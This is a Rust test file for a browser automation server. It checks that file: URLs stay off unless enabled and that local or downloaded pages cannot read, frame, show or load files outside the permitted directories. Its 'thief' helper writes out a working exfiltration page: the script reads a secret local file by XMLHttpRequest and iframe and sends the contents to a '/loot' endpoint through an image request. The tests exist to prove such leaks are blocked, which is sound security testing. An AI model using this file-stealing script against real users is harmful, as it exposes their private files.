//! Local files: what the person has on disk, and pages that want it.

use std::{
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use serde_json::json;

use super::is_firefox;
use crate::support::{Answer, Server, Site};

const SECRET: &str = "the-key-to-everything";

/// Why a file is not shown.
const OUTSIDE: &str = "outside of the directories whose files may be opened";

/// A directory outside of all that may be used, with a secret in it.
fn outside() -> (tempfile::TempDir, String) {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("secret.html");
    std::fs::write(&path, format!("<title>Outside</title><h1>{SECRET}</h1>")).unwrap();
    let url = format!("file://{}", path.display());
    (directory, url)
}

/// A page that reads a URL by script and sends home what it got.
fn thief(home: &Site, wanted: &str) -> String {
    format!(
        "<title>begun</title><iframe src='{wanted}'></iframe><script>
            const tell = (how, what) => {{ document.title += ' ' + how; new Image().src = '{home}?' + encodeURIComponent(how + what) }};
            try {{ const ask = new XMLHttpRequest(); ask.open('GET', '{wanted}', false); ask.send(); tell('read', ask.responseText) }}
            catch {{ tell('refused', '') }}
            onload = () => {{
                try {{ tell('framed', frames[0].document.body.innerText) }} catch {{ tell('closed', '') }}
            }};
        </script>",
        home = home.url("/loot")
    )
}

fn is_safe(site: &Site) {
    let requests = site.requests();
    assert!(!requests.iter().any(|request| request.contains(SECRET)), "{requests:?}");
}

#[test]
fn a_local_page_reads_no_other_file() {
    let (site, (_directory, wanted)) = (Site::of(""), outside());
    let mut server = Server::start(&["--allow-file-urls"]);
    let page = server.file("page.html", &thief(&site, &wanted));
    server.navigate(&format!("file://{}", page.display())).says_not(SECRET);
    assert_eq!(server.evaluate("() => document.title"), "begun refused closed");
    is_safe(&site);
}

/// A server in whose output directory a site has put a file by itself, and the file.
fn downloaded(site: &Site, name: &'static str, content: &str) -> (Server, PathBuf) {
    site.answer("/", Answer::Html("<script>onload = () => { location = '/report' }</script>".into()))
        .answer("/report", Answer::Download(name, content.as_bytes().into()));
    let mut server = Server::start(&["--allow-file-urls"]);
    server.navigate(&site.url("/"));
    let kept = server.working_directory().join(".viewpoint-mcp-screenshots").join(name);
    let until = Instant::now() + Duration::from_secs(10);
    while !kept.exists() && Instant::now() < until {
        server.snapshot();
    }
    assert!(kept.exists(), "it was not downloaded");
    (server, kept)
}

#[test]
fn a_downloaded_page_has_no_rights() {
    let (site, (_directory, wanted)) = (Site::of(""), outside());
    let (mut server, kept) = downloaded(&site, "report.html", &thief(&site, &wanted));
    server.navigate(&format!("file://{}", kept.display()));
    assert_eq!(server.evaluate("() => location.protocol + ' ' + origin"), "data: null");
    assert!(server.evaluate("() => document.title").as_str().unwrap().starts_with("begun refused"));
    is_safe(&site);
}

#[test]
fn a_local_page_does_not_lead_to_a_download() {
    // The second has an extension that browsers do not know: they may guess from its content.
    for name in ["report.html", "report.har"] {
        let site = Site::of("");
        let (mut server, kept) = downloaded(&site, name, &format!("<title>Outside</title><h1>{SECRET}</h1>"));
        let kept = format!("file://{}", kept.display());
        let framed = server.file("framed.html", &format!("<h1>Framed</h1><iframe src='{kept}'></iframe>"));
        let linked = server.file("linked.html", &format!("<a href='{kept}'>Go on</a>"));
        let goes = server.file("goes.html", "<h1>Goes</h1>");
        let url = |path: &Path| format!("file://{}", path.display());

        server.navigate(&url(&framed)).says("Framed").says_not(SECRET);
        server.snapshot().says("(this frame shows a file that may not be opened)").says_not(SECRET);

        server.navigate(&url(&linked));
        let link = server.snapshot().reference("Go on");
        let clicked = server.call("browser_click", json!({ "ref": link }));
        assert!(!clicked.message.to_string().contains(SECRET), "{}", clicked.message);
        everything_is_withheld(&mut server, "the page shows the download");

        server.navigate(&url(&goes));
        server.call("browser_evaluate", json!({ "function": format!("() => {{ location = '{kept}' }}") }));
        server.call("browser_wait_for", json!({ "time": 0.5 }));
        everything_is_withheld(&mut server, "the page shows the download");

        // Whoever means it gets it, without its rights.
        server.navigate(&kept).says(SECRET);
        assert_eq!(server.evaluate("() => location.protocol"), "data:");
    }
}

#[test]
fn a_local_page_shows_no_file_outside() {
    let (_directory, wanted) = outside();
    let mut server = Server::start(&["--allow-file-urls"]);
    let framed = server.file("framed.html", &format!("<h1>Framed</h1><iframe src='{wanted}'></iframe>"));
    let linked = server.file("linked.html", &format!("<a href='{wanted}'>Go on</a>"));
    let opened = server.file("opened.html", &format!("<a href='{wanted}' target=_blank rel=opener>Open</a>"));
    let url = |path: &Path| format!("file://{}", path.display());

    server.navigate(&url(&framed)).says("Framed").says_not(SECRET);
    server.snapshot().says("(this frame shows a file that may not be opened)").says_not(SECRET);
    server.call("browser_take_screenshot", json!({})).fails("outside of the directories");

    server.navigate(&url(&linked));
    let link = server.snapshot().reference("Go on");
    let clicked = server.call("browser_click", json!({ "ref": link }));
    assert!(!clicked.message.to_string().contains(SECRET), "{}", clicked.message);
    everything_is_withheld(&mut server, OUTSIDE);

    server.navigate(&url(&linked));
    let went = json!({ "function": format!("() => {{ location = '{wanted}' }}") });
    server.call("browser_evaluate", went);
    server.call("browser_wait_for", json!({ "time": 0.5 }));
    everything_is_withheld(&mut server, OUTSIDE);

    server.navigate(&url(&opened));
    let link = server.snapshot().reference("Open");
    server.call("browser_click", json!({ "ref": link }));
    server.call("browser_tabs", json!({ "action": "select", "index": 1 }));
    let shown = server.call("browser_snapshot", json!({}));
    assert!(!shown.message.to_string().contains(SECRET), "{}", shown.message);

    // It goes on.
    server.navigate(&url(&framed)).says("Framed");
}

fn everything_is_withheld(server: &mut Server, why: &str) {
    for (tool, arguments) in [
        ("browser_snapshot", json!({})),
        ("browser_evaluate", json!({ "function": "() => document.body.innerText" })),
        ("browser_take_screenshot", json!({})),
    ] {
        let reply = server.call(tool, arguments);
        reply.fails(why);
        assert!(!reply.message.to_string().contains(SECRET), "{}", reply.message);
    }
    server.call("browser_tabs", json!({ "action": "list" })).says_not("Outside");
}

/// A picture of one pixel.
const PICTURE: &str = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>";

#[test]
fn a_local_page_loads_no_file_outside() {
    if is_firefox() {
        // It reports no requests for files: docs/security.md says so.
        return;
    }
    let (directory, _) = outside();
    let mut server = Server::start(&["--allow-file-urls"]);
    for (name, content) in [("a.js", "did.push('script')"), ("a.svg", PICTURE), ("a.css", "p { color: red }")]
    {
        std::fs::write(directory.path().join(name), content).unwrap();
        server.file(name, content);
    }
    let page = |from: &str| {
        format!(
            "<title>Here</title><script>did = []</script><p>Words</p><script src='{from}a.js'></script>
             <link rel=stylesheet href='{from}a.css'><img src='{from}a.svg' onload=\"did.push('picture')\">"
        )
    };
    let inside = server.file("inside.html", &page(""));
    let leads = server.file("leads.html", &page(&format!("file://{}/", directory.path().display())));
    let opens =
        server.file("opens.html", &format!("<a href='file://{}' target=_blank>Open</a>", leads.display()));
    let did = "() => [...did, getComputedStyle(document.querySelector('p')).color].sort().join()";
    let url = |path: &Path| format!("file://{}", path.display());

    server.navigate(&url(&inside));
    assert_eq!(server.evaluate(did), "picture,rgb(255, 0, 0),script");
    server.navigate(&url(&leads));
    assert_eq!(server.evaluate(did), "rgb(0, 0, 0)");
    // A tab that the page opens is no way round it.
    server.navigate(&url(&opens));
    let link = server.snapshot().reference("Open");
    server.call("browser_click", json!({ "ref": link }));
    server.call("browser_tabs", json!({ "action": "select", "index": 1 })).ok();
    server.call("browser_wait_for", json!({ "text": "Words" })).ok();
    assert_eq!(server.evaluate(did), "rgb(0, 0, 0)");
}

#[test]
fn file_urls_are_off_unless_asked_for() {
    let mut server = Server::start(&[]);
    let page = server.file("page.html", "<h1>Here</h1>");
    let url = format!("file://{}", page.display());
    let refused = server.call("browser_navigate", json!({ "url": url }));
    refused.fails("file: URLs are off").fails("--allow-file-urls");
    server.call("browser_tabs", json!({ "action": "new", "url": url })).fails("file: URLs are off");

    let root = tempfile::tempdir().unwrap();
    std::fs::write(root.path().join("page.html"), "<h1>From a root</h1>").unwrap();
    let mut server = Server::silent(&[]);
    let roots = json!({ "roots": [{ "uri": format!("file://{}", root.path().display()) }] });
    let client = json!({ "name": "suites", "version": "1" });
    let params =
        json!({ "protocolVersion": "2025-06-18", "capabilities": { "roots": {} }, "clientInfo": client });
    server.request("initialize", params);
    server.send(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
    let asked = loop {
        let (message, _) = server.next_within(Duration::from_secs(10)).expect("a question for roots");
        if message["method"] == "roots/list" {
            break message["id"].clone();
        }
    };
    server.send(&json!({ "jsonrpc": "2.0", "id": asked, "result": roots }));
    server.navigate(&format!("file://{}/page.html", root.path().display())).says("From a root");
    let page = server.file("page.html", "<h1>Here</h1>");
    server
        .call("browser_navigate", json!({ "url": format!("file://{}", page.display()) }))
        .fails("file: URLs are off");
}
